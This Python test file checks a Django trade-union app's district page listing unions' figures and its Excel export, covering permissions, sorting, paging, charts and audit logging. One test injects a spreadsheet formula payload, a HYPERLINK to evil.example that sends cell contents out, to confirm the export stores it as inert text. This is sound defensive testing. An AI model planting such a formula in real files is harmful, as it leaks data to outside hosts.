"""The unions × figures page under /o/<code>/upper/unions/ and its workbook: works for the
district (the table, its sorting, its links to each union's own pages, the chart's data, the
total) / another district and a union's chair at the district get 404 / a role without the
roster gets 403 / a wrong method 405; a reader sees only the families of figures their
permissions read; the .xlsx is formula-safe and logged; the menu entry only at an upper
union."""

from __future__ import annotations

import io
import json
import re

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from gonghui.audit.models import AuditEntry
from gonghui.core.scoping import unscoped
from tests.factories import GroupFactory, MemberFactory, UnionFactory
from tests.funds.conftest import holder

from .test_rollup import YEAR, books, held, joined

pytestmark = pytest.mark.usefixtures("platform")


def _url(org, what=""):
    return f"/o/{org.code}/upper/unions/{what}"


@pytest.fixture
def unions(district):
    """Two unions of the district: A (five members, three of them women, an activity,
    books) and B (two members); a union of another district."""
    a = UnionFactory(parent=district, name="甲公司工会")
    b = UnionFactory(parent=district, name="乙学校工会")
    a_group, b_group = GroupFactory(parent=a), GroupFactory(parent=b)
    a_members = [MemberFactory(org=a_group, female=i < 3) for i in range(5)]
    for m in a_members[:2]:
        joined(m)
    MemberFactory(org=b_group)
    MemberFactory(org=b_group, member_type="migrant")
    held(a_group, a_members[:4])
    books(a)
    MemberFactory(org=GroupFactory(parent=UnionFactory(name="外区工会")))
    return a, b


@pytest.fixture
def district_staff(district, staff):
    return staff("upper_staff", district)


def _body(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def _chart(body: str) -> dict:
    found = re.search(
        r'<script id="unions-chart-data" type="application/json">(.*?)</script>', body
    )
    return json.loads(found.group(1))


def test_the_district_reads_each_union_and_the_total(login, district, unions, district_staff):
    a, b = unions
    body = _body(login(district_staff).get(_url(district, f"{YEAR}/")))
    for text in (a.name, b.name, "外区工会"):
        assert (text in body) == (text != "外区工会"), text
    table = body[body.index('id="unions-table"') :]
    # Each union leads to its dashboard and each figure to the union's own page.
    assert f'href="/o/{a.code}/"' in table
    assert f'href="/o/{a.code}/members/statistics/"' in table
    assert f'href="/o/{a.code}/activities/statistics/?year={YEAR}"' in table
    assert f'href="/o/{a.code}/finance/statements/?year={YEAR}&amp;month="' in table
    assert f'href="/o/{b.code}/openness/report/{YEAR}/"' in table
    # Upper staff read aid totals, not the aid pages: no link there.
    assert f"/o/{a.code}/aid/" not in table
    total = table[table.index('id="unions-total"') :]
    assert re.search(r">\s*7\s*<", total)  # members on the roll: 5 + 2
    assert "1,200.50" in total  # A's income; B keeps no books here
    # Every figure has its column, in Chinese, and nothing internal is shown.
    for label in (
        "在册会员",
        "本年入会",
        "农民工会员",
        "参与人次",
        "慰问金额（元）",
        "助学金额（元）",
    ):
        assert label in body, label
    for label in ("应公开（期）", "完成率（%）", "收入合计（元）"):
        assert label in body, label
    assert _chart(body) == {"label": "在册会员", "names": [a.name, b.name], "values": [5.0, 2.0]}
    assert f'href="{_url(district, f"{YEAR}/xlsx/")}"' in body


def test_this_years_page_is_the_menus_entry(login, district, unions, district_staff):
    c = login(district_staff)
    assert _url(district) in _body(c.get(f"/o/{district.code}/"))
    body = _body(c.get(_url(district)))
    shown = re.search(r'aria-current="page"\s+href="[^"]+">(\d{4})<', body)
    assert int(shown[1]) == timezone.localdate().year


def test_the_table_sorts_by_any_figure_and_says_so(login, district, unions, district_staff):
    a, b = unions
    c = login(district_staff)

    def order(**params):
        body = _body(c.get(_url(district, f"{YEAR}/"), params))
        tbody = body[body.index("<tbody>") :]
        return [u for u in sorted(unions, key=lambda u: tbody.index(u.name))], body

    assert order(sort="on_roll")[0] == [b, a]
    found, body = order(sort="-on_roll")
    assert found == [a, b]
    # The sorted column says so to a screen reader; its link turns the order round.
    assert re.search(r'aria-sort="descending">\s*<a href="\?sort=on_roll">', body)
    assert 'href="?sort=-joined"' in body  # another figure: largest first
    assert order(sort="-migrant")[0] == [b, a]
    assert order(sort="name")[0] == sorted(unions, key=lambda u: u.name)
    assert order(sort="bogus")[0] == [a, b]  # the tree order
    # The chart of another figure keeps the sort, and the sort keeps the chart's figure.
    found, body = order(sort="-on_roll", figure="women")
    assert _chart(body)["values"] == [3.0, 0.0]
    assert 'href="?sort=on_roll&amp;figure=women"' in body
    assert '<input type="hidden" name="sort" value="-on_roll">' in body
    assert (
        _chart(_body(c.get(_url(district, f"{YEAR}/"), {"figure": "bogus"})))["label"] == "在册会员"
    )


def test_the_table_is_paged_in_the_sorted_order_and_the_total_covers_all(
    login, district, unions, district_staff, monkeypatch
):
    # A city's 5,000 unions are not one page of megabytes (bench/upper_rollup.py).
    from gonghui.upper import views_unions

    monkeypatch.setattr(views_unions, "ROWS_PER_PAGE", 1)
    a, b = unions
    c = login(district_staff)
    first = _body(c.get(_url(district, f"{YEAR}/"), {"sort": "-on_roll"}))
    second = _body(c.get(_url(district, f"{YEAR}/"), {"sort": "-on_roll", "page": 2}))
    rows = [body[body.index("<tbody>") : body.index("</tbody>")] for body in (first, second)]
    assert a.name in rows[0] and b.name not in rows[0]
    assert b.name in rows[1] and a.name not in rows[1]
    assert "page=2" in first and "sort=-on_roll" in first  # the next page keeps the order
    total = first[first.index('id="unions-total"') :]
    assert ">7<" in total  # five and two members: every union, not the page's


def test_a_reader_sees_only_the_families_their_permissions_read(login, district, unions, staff):
    # A cashier at the district reads the roster and the statements, not activities.
    cashier = staff("cashier", district)
    body = _body(login(cashier).get(_url(district, f"{YEAR}/")))
    assert "在册会员" in body and "收入合计（元）" in body
    assert "应公开（期）" in body  # every role reads the openness notices
    assert "参与人次" not in body and "慰问人次" not in body and "助学人数" not in body
    assert "完成率（%）" not in body and "召开职代会（次）" not in body
    r = login(cashier).get(_url(district, f"{YEAR}/xlsx/"))
    wb = load_workbook(io.BytesIO(r.content))
    header = next(wb.active.iter_rows(values_only=True))
    assert "在册会员" in header and "参与人次" not in header


def test_a_union_has_no_union_below(login, district, unions):
    a, _b = unions
    body = _body(login(holder("chair", a)).get(_url(a, f"{YEAR}/")))
    assert 'id="no-unions"' in body and 'id="unions-table"' not in body


def test_a_grassroots_chair_gets_404_at_the_district(login, district, unions):
    a, _b = unions
    c = login(holder("chair", a))
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.get(_url(district, what)).status_code == 404, what


def test_another_district_gets_404(login, district, unions, staff):
    c = login(staff("upper_staff", UnionFactory().parent))
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.get(_url(district, what)).status_code == 404, what


def test_a_role_without_the_roster_gets_403(login, district, unions, staff):
    c = login(staff("member", district))
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.get(_url(district, what)).status_code == 403, what


def test_a_wrong_method_gets_405(login, district, district_staff):
    c = login(district_staff)
    for what in ("", f"{YEAR}/", f"{YEAR}/xlsx/"):
        assert c.post(_url(district, what)).status_code == 405, what


def test_a_year_out_of_range_is_not_a_page(login, district, district_staff):
    assert login(district_staff).get(_url(district, "1999/")).status_code == 404


def test_the_workbook_holds_hostile_names_as_text_and_is_logged(
    login, district, unions, district_staff
):
    a, b = unions
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    with unscoped():
        a.name = hostile
        a.save()
    r = login(district_staff).get(_url(district, f"{YEAR}/xlsx/"))
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["各基层工会统计"]
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    named = [c for c in cells if c.value == hostile]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)
    rows = list(wb.active.iter_rows(values_only=True))
    header = rows[0]
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:] if row and row[0]}
    assert by_code[a.code]["在册会员"] == 5 and by_code[b.code]["农民工会员"] == 1
    assert by_code[a.code]["收入合计（元）"] == 1200.5  # a number in the cell
    assert by_code[b.code]["收入合计（元）"] is None  # no books: empty, not zero
    total = next(row for row in rows if row and row[1] == "合计")
    assert total[header.index("在册会员")] == 7
    with unscoped():
        entry = AuditEntry.objects.filter(action="upper.unions.exported").get()
    assert entry.org_id == district.pk and entry.actor == district_staff
    assert entry.changes == {"year": YEAR, "unions": 2, "format": "xlsx"}


def test_the_menu_has_the_entry_at_the_district_only(login, district, union, district_staff):
    assert _url(district) in _body(login(district_staff).get(f"/o/{district.code}/"))
    body = _body(login(holder("chair", union)).get(f"/o/{union.code}/"))
    assert _url(union) not in body
